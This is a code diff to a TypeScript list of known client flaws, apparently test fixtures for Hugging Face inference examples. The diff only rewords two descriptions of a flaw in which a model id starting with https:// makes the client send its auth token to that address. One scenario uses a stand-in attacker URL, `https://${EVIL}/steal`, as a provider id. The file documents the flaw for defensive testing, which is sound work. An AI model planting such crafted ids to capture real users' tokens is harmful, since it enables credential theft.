@@ -698,7 +698,7 @@ export const WITH_EVERY_PROVIDER: readonly KnownBroken[] = [
     provider: 'hf-inference',
     tasks: ['fill-mask'],
     problem:
-      'If the provider’s model id, which comes from Hugging Face, starts with `https://`, the client calls the id as a URL and sends the token.',
+      'If the provider’s model id, which comes from Hugging Face, starts with `https://`, the client treats the id as a URL and sends the token there.',
     instead: 'For this client, we don’t offer examples for models with such an id.',
     scenario: { kind: 'mapping', providerId: `https://${EVIL}/steal` },
     exitCode: 1,
@@ -709,7 +709,7 @@ export const WITH_EVERY_PROVIDER: readonly KnownBroken[] = [
     file: 'huggingface-hub-model-is-an-address.py',
     provider: 'auto',
     tasks: ['conversational'],
-    problem: 'If a model’s name starts with `https://`, the client calls the name as a URL and sends the token.',
+    problem: 'If a model’s name starts with `https://`, the client treats the name as a URL and sends the token there.',
     instead: 'We reject model records without a valid Hugging Face id.',
     scenario: { kind: 'chat' },
     exitCode: 0,
